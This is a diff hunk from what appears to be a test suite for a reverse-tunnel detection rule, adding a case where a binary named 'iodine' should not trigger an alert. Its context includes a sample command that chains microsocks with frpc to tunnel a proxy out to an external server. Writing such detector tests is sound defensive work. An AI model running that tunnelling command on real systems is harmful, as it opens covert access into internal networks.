@@ -14,6 +14,7 @@ indicatorTable(commandReverseTunnel, {
     'a proxy with a way to it': script('microsocks -p 1080 & frpc tcp --server-addr 203.0.113.7 --local-port 1080'),
   },
   staysSilent: {
+    'an application of that name': runs('/app/iodine', 'run', '--config', '/etc/app/config.yaml'),
     'a proxy for the pod itself': script(
       'microsocks -i 127.0.0.1 -p 1080 & curl -x socks5://127.0.0.1 https://example.com',
     ),
